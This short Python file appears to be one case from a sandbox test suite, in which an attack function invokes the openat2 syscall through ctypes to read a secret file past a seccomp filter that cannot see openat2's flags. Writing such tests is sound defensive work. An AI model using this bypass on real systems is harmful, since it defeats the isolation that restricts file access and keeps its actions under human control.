# A2: reads a file through openat2, whose flags a filter cannot see
# Without layers: succeeds
import struct
import sys

OPENAT2, AT_FDCWD = 437, -100  # the same on every architecture


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(100)
    how = struct.pack("QQQ", 0, 0, 0)
    name = facts["secret_file"].encode()
    descriptor = libc.syscall(OPENAT2, AT_FDCWD, name, how, ctypes.c_size_t(len(how)))
    libc.read(descriptor, text, 100)
    return text.value.decode()
